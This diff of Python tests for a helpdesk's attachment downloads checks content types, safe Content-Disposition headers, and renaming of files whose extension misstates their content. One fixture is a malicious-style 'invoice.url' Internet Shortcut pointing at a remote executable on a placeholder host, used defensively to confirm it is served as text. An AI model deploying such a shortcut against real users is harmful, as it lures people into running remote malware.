@@ -97,11 +97,11 @@ def test_the_customer_downloads_its_own_attachment_as_a_download(alice_client, a
     # when
     response = alice_client.get(portal_url(attachment))
 
-    # then the bytes come back as a download, typed by what they are, never rendered
+    # then the bytes come back as a download, typed and named by what they are, never rendered
     assert response.status_code == 200
     assert response.content == HTML
     assert response["Content-Type"] == OPAQUE
-    assert response["Content-Disposition"] == 'attachment; filename="cat.png"'
+    assert response["Content-Disposition"] == 'attachment; filename="cat.png.bin"'
     assert response["X-Content-Type-Options"] == "nosniff"
     assert "sandbox" in response["Content-Security-Policy"]
     assert "no-store" in response["Cache-Control"]
@@ -200,6 +200,31 @@ def test_an_awkward_file_name_is_kept_in_a_safe_header(agent_client, alice):
     disposition = response["Content-Disposition"]
     assert disposition.startswith("attachment; filename*=utf-8''")
     assert '"final"' not in disposition and "\n" not in disposition
+
+
+@pytest.mark.parametrize(
+    ("filename", "content", "handed_out"),
+    [
+        (
+            "invoice.url",
+            b"[InternetShortcut]\r\nURL=file://198.51.100.7/s/x.exe\r\n",
+            "invoice.url.txt",
+        ),
+        ("statement.pdf", PNG, "statement.pdf.png"),
+        ("notes.txt", b"plain words\n", "notes.txt"),
+        ("README", b"plain words\n", "README"),
+    ],
+)
+def test_a_file_stored_under_a_name_of_another_kind_is_handed_out_as_what_it_holds(
+    agent_client, alice_client, alice, filename, content, handed_out
+):
+    # given a file kept before names were judged, under a name a desktop opens otherwise
+    attachment = attach(TicketFactory(customer=alice), filename=filename, content=content)
+    # when staff or its customer download it
+    for client, url in ((agent_client, staff_url), (alice_client, portal_url)):
+        response = client.get(url(attachment))
+        # then it carries the extension of what its bytes are
+        assert response["Content-Disposition"] == f'attachment; filename="{handed_out}"'
 
 
 # --- links on the pages, from an email as it arrives ---
